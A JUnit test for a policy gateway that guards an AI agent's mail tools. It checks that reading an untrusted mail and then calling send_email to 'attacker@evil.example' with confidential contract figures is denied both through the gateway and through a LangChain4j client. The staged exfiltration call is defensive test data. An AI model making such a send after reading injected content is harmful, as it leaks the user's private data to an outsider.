package dev.sluice.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.langchain4j.agent.tool.ToolExecutionRequest;
import dev.langchain4j.exception.ToolExecutionException;
import dev.langchain4j.invocation.InvocationContext;
import dev.langchain4j.mcp.client.DefaultMcpClient;
import dev.langchain4j.mcp.client.McpCallContext;
import dev.langchain4j.mcp.client.McpClient;
import dev.langchain4j.mcp.client.McpClientListener;
import dev.langchain4j.mcp.client.transport.stdio.StdioMcpTransport;
import dev.langchain4j.service.tool.ToolExecutionResult;
import dev.sluice.guard.client.Enforcement;
import dev.sluice.langchain4j.AgentGuard;
import dev.sluice.policy.PolicyParser;
import dev.sluice.store.MemoryEngine;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** The same attack through {@code sluice run} and through a guarded client of LangChain4j is stopped in the same way. */
class LangChain4jTest {

    private static final JsonMapper JSON = JsonMapper.shared();

    private static final String POLICY = """
            version: 1
            servers:
              mail:
                tools:
                  read_mail:
                    effects: [reads]
                    returns: {integrity: untrusted, readers: [/from, /to, /cc]}
                  send_email:
                    effects: [sends]
                    audience: [to, cc, bcc]
                    payload: [subject, body]
            """;

    private static final String READ = "{\"id\":\"m1\"}";
    private static final String SEND =
            "{\"to\":[\"attacker@evil.example\"],\"subject\":\"Fwd\",\"body\":\"The contract C-2291 stands at 48,200 EUR.\"}";

    /** What is another each time: when, in which session, on which machine, and what is computed from that. */
    private static final Set<String> IDS =
            Set.of("at", "time", "session", "display", "principal", "client", "prev", "seq", "call", "host");

    @TempDir
    private Path folder;

    private static List<String> mailServer() {
        List<String> command = new ArrayList<>(Children.java(LangChain4jTest.class));
        command.set(command.size() - 1, "dev.sluice.examples.mail.MailServer");
        return command;
    }

    /** Where something stands in the record is another place each time too. */
    private static ObjectNode bare(JsonNode node) {
        ObjectNode bare = (ObjectNode) JSON.readTree(node.toString()
                .replaceAll("call(\":\"| )c\\d+", "call$1c0")
                .replaceAll("audit://\\d+", "audit://0")
                .replaceAll("\"record\":\\d+", "\"record\":0"));
        IDS.forEach(bare::remove);
        return bare;
    }

    private JsonNode throughGateway(List<JsonNode> decisions) throws Exception {
        JsonNode denied;
        try (StdioHost host = StdioHost.under(POLICY, mailServer(), folder).initialize("{}")) {
            host.call("read_mail", READ);
            denied = host.call("send_email", SEND);
        }
        decisions.addAll(Kept.decisions(folder.resolve("state")));
        return denied.has("result") ? denied.path("result") : denied;
    }

    private static JsonNode throughLangChain4j(List<JsonNode> decisions) throws Exception {
        List<Map<String, Object>> answers = new ArrayList<>();
        McpClientListener listener = new McpClientListener() {
            @Override
            public void afterExecuteTool(
                    McpCallContext context, ToolExecutionResult result, Map<String, Object> rawResult) {
                answers.add(rawResult);
            }
        };
        MemoryEngine engine = new MemoryEngine();
        Enforcement enforcement = Enforcement.builder(PolicyParser.parse("policy.yaml", POLICY))
                .engine(engine)
                .build();
        McpClient client = DefaultMcpClient.builder()
                .transport(AgentGuard.of(enforcement)
                        .transport(
                                "mail",
                                StdioMcpTransport.builder()
                                        .command(mailServer())
                                        .build()))
                .addListener(listener)
                .build();
        try {
            InvocationContext context =
                    InvocationContext.builder().chatMemoryId("chat").build();
            client.executeTool(request("read_mail", READ), context);
            ToolExecutionException told = assertThrows(
                    ToolExecutionException.class, () -> client.executeTool(request("send_email", SEND), context));
            assertTrue(told.getMessage().startsWith("sluice denied `send_email`"), told.getMessage());
        } finally {
            client.close();
        }
        engine.transact(tx -> tx.audit().read(1, 1_000)).stream()
                .map(record -> JSON.readTree(record.json()))
                .filter(event -> event.path("kind").asString("").equals("decision"))
                .forEach(decisions::add);
        return JSON.valueToTree(answers.get(1)).path("result");
    }

    private static ToolExecutionRequest request(String tool, String arguments) {
        return ToolExecutionRequest.builder().name(tool).arguments(arguments).build();
    }

    @Test
    void attackThroughAMail_isStoppedAsByTheGateway() throws Exception {
        List<JsonNode> byGateway = new ArrayList<>();
        List<JsonNode> byAdapter = new ArrayList<>();
        JsonNode expected = throughGateway(byGateway);
        JsonNode denied = throughLangChain4j(byAdapter);
        assertTrue(expected.path("isError").asBoolean(false), expected.toString());
        assertEquals(bare(expected), bare(denied));
        assertEquals(2, byGateway.size());
        assertEquals(2, byAdapter.size());
        for (int i = 0; i < 2; i++) {
            assertEquals(bare(byGateway.get(i)), bare(byAdapter.get(i)));
        }
    }
}
